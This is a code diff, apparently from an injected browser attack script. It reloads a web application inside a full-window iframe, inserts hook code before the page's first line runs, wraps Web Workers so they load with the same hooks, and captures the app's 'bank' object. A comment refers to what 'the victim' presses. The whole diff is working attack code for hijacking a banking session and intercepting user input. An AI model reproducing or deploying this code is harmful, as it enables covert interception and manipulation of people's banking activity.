@@ -1,8 +1,9 @@
-// A2b: the application once more, in this very window, with hooks in it before its first line runs. Workers are started with
-// the hooks in front of their own source.
+// A2b: the application once more, in a frame that fills the window, with hooks in it before its first line runs. A new window
+// has modules of its own; writing into the old one would leave those that run already. Workers are started with the hooks in
+// front of their own source.
 const again = async (source) => {
   const page = await (await home(location.origin + "/")).text();
-  const patch = `<script>(() => {
+  const patch = `<base href="${location.origin}/"><script>(() => {
 ${source}
 hook(window);
 const Real = window.Worker;
@@ -11,13 +12,19 @@ window.Worker = class extends Real {
     const asked = new XMLHttpRequest();
     asked.open("GET", url, false);
     asked.send();
-    super(URL.createObjectURL(new Blob([${JSON.stringify(source)}, ";hook(self);", asked.responseText.replaceAll('from "/', 'from "' + location.origin + "/")], { type: "text/javascript" })), options);
+    super(URL.createObjectURL(new Blob([${JSON.stringify(source)}, ";hook(self);", asked.responseText.replaceAll('from "/', 'from "${location.origin}/')], { type: "text/javascript" })), options);
   }
 };
-window.anew = true;
 })();</` + `script>`;
-  await send("done", "x");
-  document.open();
-  document.write(page.replace("<head>", () => "<head>" + patch));
-  document.close();
+  const frame = document.createElement("iframe");
+  frame.style.cssText = "position:fixed;inset:0;width:100%;height:100%;border:0;background:white";
+  document.body.replaceChildren(frame);
+  const inside = frame.contentDocument;
+  inside.open();
+  inside.write(page.replace("<head>", () => "<head>" + patch));
+  inside.close();
+  // What the victim presses from now on is in the frame.
+  await new Promise((there) => { const look = () => (frame.contentWindow.bank ? there() : setTimeout(look, 20)); look(); });
+  window.bank = frame.contentWindow.bank;
+  window.anew = true;
 };
